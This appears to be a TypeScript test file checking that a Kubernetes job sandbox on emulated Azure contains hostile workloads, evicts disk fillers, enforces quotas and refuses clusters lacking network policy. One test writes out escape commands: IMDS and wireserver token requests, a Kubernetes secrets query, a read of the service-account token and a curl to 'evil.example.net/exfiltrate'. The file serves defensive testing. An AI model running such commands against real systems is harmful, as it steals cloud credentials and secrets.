// Hostile jobs through the REST API against the emulators: every escape a
// job tries (IMDS, wireserver, API server, another namespace's pod, the
// internet, a service-account token) is contained and visible in its log; a
// job filling its disk is evicted and reported Failed with the reason; a job
// the namespace quota cannot take is refused at submission; a cluster
// without a network policy engine refuses sandboxed jobs.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { rawRequest, type KubernetesTestEnv } from "../../support/kubernetesTestCluster.js";
import { poll, startInProcessStack, type SandboxStack } from "../../support/sandboxStack.js";
import type { InProcessApp } from "../../support/inProcessApp.js";

/* eslint-disable @typescript-eslint/no-explicit-any -- JSON bodies are inspected freely */

const IMAGE = "mcr.microsoft.com/aks/fundamental/base-ubuntu:v0.0.11";

describe("Hostile jobs are contained (simulated Azure)", () => {
  let stack: SandboxStack<InProcessApp>;
  let submitter: string;
  let betaSubmitter: string;
  let jobs: string;
  let betaJobs: string;

  before(async () => {
    stack = await startInProcessStack({ scale: 0.01 });
    await stack.createCluster("rg-hostile", "kata1");
    await stack.createCluster("rg-hostile", "byo1", { networkProfile: { networkPlugin: "azure" } });
    submitter = await stack.host.token({ team: "alpha", roles: ["Sandbox.Submitter"] });
    betaSubmitter = await stack.host.token({ team: "beta", roles: ["Sandbox.Submitter"] });
    jobs = `${stack.clusterPath("rg-hostile", "kata1")}/jobs`;
    betaJobs = jobs;
  });
  after(async () => {
    await stack?.close();
  });

  const json = async (res: Response): Promise<any> => (await res.json()) as any;
  const finished = (path: string, name: string, token: string) =>
    poll(
      async () => {
        const body = await json(await stack.call("GET", `${path}/${name}`, token));
        return ["Succeeded", "Failed", "TimedOut", "Canceled"].includes(body.status) ? body : undefined;
      },
      `${name} to finish`,
      90_000,
      100,
    );

  test("every escape is contained and the attempt is visible in the job's log", async () => {
    // A pod of another team to aim at.
    const target = await stack.call("POST", betaJobs, betaSubmitter, {
      name: "beta-target",
      image: IMAGE,
      command: ["sleep", "600"],
    });
    assert.equal(target.status, 201, await target.clone().text());
    const key = stack.clusterKey("rg-hostile", "kata1");
    const ip = await poll(
      async () =>
        stack.azure.kubernetes.snapshot(key).pods.find((p) => p.metadata.namespace === "sandbox-beta")?.status?.podIP,
      "beta pod IP",
    );
    const script = [
      "curl -sS -m 5 -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
      "wget -q -O- -T 5 'http://168.63.129.16/?comp=versions'",
      "curl -sS -k -m 5 https://kubernetes.default.svc/api/v1/secrets",
      `wget -q -O- -T 5 http://${ip}:8080/`,
      "curl -sS -m 5 https://evil.example.net/exfiltrate",
      "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
      "echo done",
    ].join("; ");
    const res = await stack.call("POST", jobs, submitter, {
      name: "escape",
      image: IMAGE,
      command: ["/bin/sh", "-c", script],
    });
    assert.equal(res.status, 201, await res.clone().text());
    const job = await finished(jobs, "escape", submitter);
    assert.equal(job.status, "Succeeded", JSON.stringify(job));
    const log = await (await stack.call("GET", `${jobs}/escape/logs`, submitter)).text();
    assert.deepEqual(log.trim().split("\n"), [
      "curl: (28) Failed to connect to 169.254.169.254 port 80 after 5000 ms: Timeout was reached",
      "wget: download timed out",
      "curl: (28) Failed to connect to kubernetes.default.svc port 443 after 5000 ms: Timeout was reached",
      "wget: download timed out",
      // DNS is allowed (to CoreDNS only): the name resolves, the connection is dropped.
      "curl: (28) Failed to connect to evil.example.net port 443 after 5000 ms: Timeout was reached",
      "cat: can't open '/var/run/secrets/kubernetes.io/serviceaccount/token': No such file or directory",
      "done",
    ]);
    assert.doesNotMatch(log, /access_token|<Versions>/);
    await stack.call("DELETE", `${betaJobs}/beta-target`, betaSubmitter);
  });

  test("a job writing past its ephemeral-storage limit is evicted and reported Failed with the reason", async () => {
    const res = await stack.call("POST", jobs, submitter, {
      name: "filler",
      image: IMAGE,
      command: ["dd", "if=/dev/zero", "of=/tmp/fill", "bs=1M", "count=4096"],
    });
    assert.equal(res.status, 201, await res.clone().text());
    const job = await finished(jobs, "filler", submitter);
    assert.equal(job.status, "Failed");
    assert.equal(job.reason, "Evicted");
    assert.equal(job.message, "Pod ephemeral local storage usage exceeds the total limit of containers 1024Mi.");
  });

  test("a job over the namespace quota is refused at submission (the product checks first), not left Pending", async () => {
    // Someone else's pods (kubectl in the team's namespace) fill beta's quota of pods: 2 jobs + 2 probe pods.
    const key = stack.clusterKey("rg-hostile", "kata1");
    const quota = stack.azure.kubernetes
      .snapshot(key)
      .resourceQuotas.find((q) => q.metadata.namespace === "sandbox-beta");
    assert.equal((quota?.spec as any)?.hard?.pods, "4");
    const env = {
      emulator: stack.azure.kubernetes,
      cloud: stack.azure.cloud,
      cluster: stack.azure.cloud.getCluster(key)!,
    } as unknown as KubernetesTestEnv;
    const used = Number((quota?.status as any)?.used?.pods ?? 0);
    for (let i = used; i < 4; i++) {
      const pod = await rawRequest(env, "POST", "/api/v1/namespaces/sandbox-beta/pods", {
        body: {
          metadata: { name: `squatter-${i}` },
          spec: {
            restartPolicy: "Never",
            containers: [
              {
                name: "c",
                image: IMAGE,
                command: ["sleep", "600"],
                securityContext: {
                  allowPrivilegeEscalation: false,
                  capabilities: { drop: ["ALL"] },
                  runAsNonRoot: true,
                  seccompProfile: { type: "RuntimeDefault" },
                },
              },
            ],
          },
        },
      });
      assert.equal(pod.status, 201, pod.text);
    }
    const refused = await stack.call("POST", betaJobs, betaSubmitter, { name: "one-too-many", image: IMAGE });
    assert.equal(refused.status, 429, await refused.clone().text());
    assert.ok(Number(refused.headers.get("retry-after")) > 0);
    const error = (await json(refused)).error;
    assert.equal(error.code, "QuotaExceeded");
    assert.match(
      error.message,
      /^Namespace "sandbox-beta" has no room for the job now: pods in use 4 \+ 1 > 4 \(its ResourceQuota\)/,
    );
    assert.equal(
      stack.azure.kubernetes.snapshot(key).jobs.filter((j) => j.metadata.name === "one-too-many").length,
      0,
      "no Job was created",
    );
    const listed = await json(await stack.call("GET", `/jobs?cluster=kata1`, betaSubmitter));
    assert.ok(!listed.value.some((j: any) => j.name === "one-too-many"), "no row was left behind");
    for (let i = 0; i < 4; i++) await rawRequest(env, "DELETE", `/api/v1/namespaces/sandbox-beta/pods/squatter-${i}`);
  });

  test("a cluster without a network policy engine refuses sandboxed jobs with NetworkPolicyUnsupported, saying how to fix it", async () => {
    const res = await stack.call("POST", `${stack.clusterPath("rg-hostile", "byo1")}/jobs`, submitter, {
      name: "x",
      image: IMAGE,
    });
    assert.equal(res.status, 409);
    const body = await json(res);
    assert.equal(body.error.code, "NetworkPolicyUnsupported");
    assert.match(
      body.error.message,
      /no network policy engine \(networkProfile\.networkPolicy: none\).*allowUnenforcedNetworking/,
    );
    assert.equal(stack.azure.kubernetes.snapshot(stack.clusterKey("rg-hostile", "byo1")).jobs.length, 0);
    const view = await json(await stack.call("GET", stack.clusterPath("rg-hostile", "byo1"), submitter));
    assert.deepEqual([view.network.networkPolicy, view.network.policyEnforced], ["none", false]);
    const product = await json(await stack.call("GET", stack.clusterPath("rg-hostile", "kata1"), submitter));
    assert.deepEqual(
      [product.network.networkDataplane, product.network.networkPolicy, product.network.policyEnforced],
      ["cilium", "cilium", true],
    );
  });
});
